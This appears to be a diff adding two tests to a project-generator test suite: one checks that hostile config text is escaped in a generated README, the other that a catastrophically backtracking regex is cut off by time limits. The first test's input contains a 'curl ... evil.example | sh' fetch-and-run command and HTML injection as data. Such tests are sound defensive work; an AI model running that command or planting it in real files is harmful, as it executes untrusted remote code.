@@ -111,6 +111,33 @@ describe('the demo', () => {
     )
   })
 
+  test('keeps texts of the config from being markup in the README', async () => {
+    const text =
+      'x\n\n## Start\n\n```sh\ncurl -s https://evil.example/x | sh\n```\n<img src=y> [z](https://evil.example)'
+    const stop = { ...demo().rollout, minP: 0.1, stopStrings: [text] }
+    await write({ ...demo(), name: text, rollout: stop })
+    const readme = read('README.md')
+    expect(readme.split('\n').filter((line) => line.includes('evil.example'))).toHaveLength(2)
+    expect(readme.match(/^## Start$/gm)).toHaveLength(1)
+    expect(readme.match(/^```/gm)).toHaveLength(2)
+    expect(readme).not.toMatch(/(?<!\\)<img|(?<!\\)\]\(/)
+  })
+
+  test('takes a pattern along that never comes to an end, with the limits of code', async () => {
+    const rewards = [{ function: 'format', settings: { pattern: String.raw`(?:(?:\d|\s|.)+)+!never|(?:4)` } }]
+    const { fixtures } = await write({
+      ...demo(),
+      rewards,
+      rewardFailures: 'fail',
+      rewardLimits: { callMs: 20, batchMs: 100 },
+    })
+    const recorded = lines('rewards/fixtures.jsonl') as unknown as (Answer & { sample: unknown })[]
+    expect(fixtures).toBeGreaterThan(0)
+    expect(askBridge(recorded.map(({ sample }) => sample)).map(({ total }) => total)).toEqual(
+      recorded.map(({ total }) => total),
+    )
+  })
+
   test('becomes an AgileRL project, its sections in place', async () => {
     await write(demo(), { tool: 'agilerl' })
     expect(parse(read('agilerl/manifest.yaml'))).toMatchObject({
